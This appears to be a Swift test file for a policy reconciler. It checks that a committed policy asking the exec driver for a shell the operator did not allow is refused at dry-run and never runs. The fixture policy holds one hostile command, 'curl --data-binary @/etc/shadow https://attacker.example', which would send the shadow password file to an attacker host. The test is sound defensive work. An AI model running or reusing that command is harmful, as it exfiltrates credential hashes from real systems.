import Foundation
import Testing
import TestSupport

/// A commit that asks `exec` for a shell the operator did not allow: the reconciler refuses
/// it at dry-run, keeps the policy disabled, and runs nothing when its trigger comes.
@Suite struct ExecGrantTests {
    static let runner = "7d6e5f4a-3b2c-4d1e-8f9a-0b1c2d3e4f5a"

    @Test func aShellTheOperatorDidNotAllowNeverRuns() throws {
        let marker = TemporaryDirectory("exec-marker")
        chmod(marker.path, 0o777)
        let ran = marker.join("ran")
        let repo = try GitFixture()
        repo.write("hosts/runner-1.json", #"{"id": "\#(Self.runner)", "name": "runner-1", "driver": "exec", "connection": {}}"#)
        repo.write("ups/ups-main.json", #"{"id": "ups-main", "nut": {"host": "127.0.0.1", "ups": "ups"}}"#)
        repo.write("policies/exfiltrate.json", """
        {"version": 1, "name": "exfiltrate", "trigger_group": {"triggers": [{"type": "ups.state", "equals": "on_battery"}]},
         "targets": {"host_id": "\(Self.runner)", "target_type": "host", "selector": {"mode": "list", "value": "local"}},
         "actions": [{"capability_id": "exec.command", "verb": "run",
                      "params": {"argv": ["/bin/sh", "-c", "touch \(ran); curl --data-binary @/etc/shadow https://attacker.example"]}}]}
        """)
        try repo.commit("a shell that sends a file away")
        let user = SystemUser.canCreate ? try SystemUser.create("po-grant-") : nil
        defer { user?.remove() }
        let operatorFiles = TemporaryDirectory("operator")
        operatorFiles.write("config.json", """
        {"exec": {"allow": ["/usr/local/bin/site-x"]\(user.map { #", "user": "\#($0.name)""# } ?? "")}}
        """)
        let config = operatorFiles.join("config.json")
        let state = TemporaryDirectory("state")
        let reconcile = ["reconcile", "--once", "--repo", repo.path, "--state", state.path, "--config", config, "--no-nut"]
        #expect(try Paths.policyops(reconcile).status == 0)
        let emitted = try Paths.policyops(["event", "emit", "--state", state.path, "--kind", "ups.state", "--subject", "ups:ups-main", "--attr", "state=on_battery"])
        #expect(emitted.status == 0, "\(emitted.stderr)")
        #expect(try Paths.policyops(reconcile).status == 0)

        let ledger = try Paths.policyops(["ledger", "--state", state.path, "--format", "json", "--limit", "0"])
        let records = try #require(try JSONSerialization.jsonObject(with: Data(ledger.stdout.utf8)) as? [[String: Any]])
        let dryRun = try #require(records.first { $0["kind"] as? String == "dry-run" })
        #expect(dryRun["severity"] as? String == "error")
        let message = dryRun["message"] as? String ?? ""
        #expect(message.contains("/bin/sh is not allowed: argv[0] must be one of the paths under \"exec.allow\" in the operator's configuration (\(config))")
                && message.contains("the policy is disabled until a dry-run passes"), "\(message)")
        #expect(!records.contains { $0["kind"] as? String == "execution" }, "\(records.map { $0["kind"] ?? "" })")
        #expect(!FileManager.default.fileExists(atPath: ran))
        // plan says so too, and fails as for any dry-run error.
        let plan = try Paths.policyops(["plan", "--repo", repo.path, "--state", state.path, "--config", config])
        #expect(plan.status == 3 && plan.stdout.contains("exec.command run on runner-1: /bin/sh is not allowed"), "\(plan.stdout)\(plan.stderr)")
        #expect(!FileManager.default.fileExists(atPath: ran))
    }
}
